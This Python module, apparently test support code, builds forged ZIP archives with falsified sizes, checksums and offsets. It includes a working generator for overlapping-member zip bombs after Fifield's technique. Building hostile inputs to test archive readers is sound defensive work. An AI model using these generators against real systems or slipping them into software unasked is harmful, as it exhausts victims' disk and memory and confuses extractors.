"""Archives as no honest program writes them: every field of the directory can be forged (APPNOTE 4.3.7, 4.3.12)."""

import struct
import zipfile
import zlib
from collections.abc import Sequence
from dataclasses import dataclass
from itertools import pairwise


@dataclass(frozen=True)
class Entry:
    """A member; what is None is what it should be.

    Attributes:
        name: as it stands in the archive.
        content: unpacked.
        packed: what lies in the archive.
        size: claimed size of the content.
        packed_size: claimed size in the archive.
        checksum: claimed CRC32.
        place: where the directory says that the member begins.
    """

    name: bytes
    content: bytes = b""
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    attributes: int = 0
    packed: bytes | None = None
    size: int | None = None
    packed_size: int | None = None
    checksum: int | None = None
    place: int | None = None

    def body(self) -> bytes:
        """What lies in the archive."""
        if self.packed is not None:
            return self.packed
        return deflated(self.content) if self.method == zipfile.ZIP_DEFLATED else self.content

    def fields(self) -> bytes:
        """What local header and directory both say."""
        packed_size = len(self.body()) if self.packed_size is None else self.packed_size
        size = len(self.content) if self.size is None else self.size
        checksum = zlib.crc32(self.content) if self.checksum is None else self.checksum
        return struct.pack(
            "<HHHHHIIIHH", 20, self.flags, self.method, 0, 33, checksum, packed_size, size, len(self.name), 0
        )


def deflated(content: bytes) -> bytes:
    """Without the frame of zlib, as archives hold it."""
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(content) + packer.flush()


def local_header(entry: Entry) -> bytes:
    """What stands before a member."""
    return b"PK\3\4" + entry.fields() + entry.name


def forged_zip(entries: Sequence[Entry], tail: bytes = b"") -> bytes:
    """An archive of these members, with something between them and the directory."""
    body, directory = bytearray(), bytearray()
    for entry in entries:
        place = len(body) if entry.place is None else entry.place
        directory += b"PK\1\2" + struct.pack("<H", 20) + entry.fields()
        directory += struct.pack("<HHHII", 0, 0, 0, entry.attributes, place) + entry.name
        if entry.place is None:
            body += local_header(entry) + entry.body()
    body += tail
    count = min(len(entries), 0xFFFF)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + end)


def overlapping_zip(names: Sequence[bytes], kernel: bytes) -> bytes:
    """Members that share their bytes: each quotes the header of the next one and goes on with its content.

    So N members of the archive's size unpack to N times what it holds (David Fifield, A better zip bomb, WOOT 2019).
    """
    last = Entry(names[-1], kernel)
    chain, stream, content = [last], local_header(last) + last.body(), kernel
    for name in reversed(names[:-1]):
        header = local_header(chain[0])
        block = b"\0" + struct.pack("<HH", len(header), 0xFFFF ^ len(header)) + header
        content = header + content
        packed = block + chain[0].body()
        entry = Entry(name, content, packed=packed)
        chain.insert(0, entry)
        stream = local_header(entry) + packed[: len(block) - len(header)] + stream
    places, at = [], 0
    for entry, following in pairwise(chain):
        places.append(at)
        at += len(local_header(entry)) + 5
        assert stream[at:].startswith(local_header(following))
    places.append(at)
    placed = [
        Entry(entry.name, entry.content, packed=entry.packed, place=place)
        for entry, place in zip(chain, places, strict=True)
    ]
    return forged_zip(placed, stream)
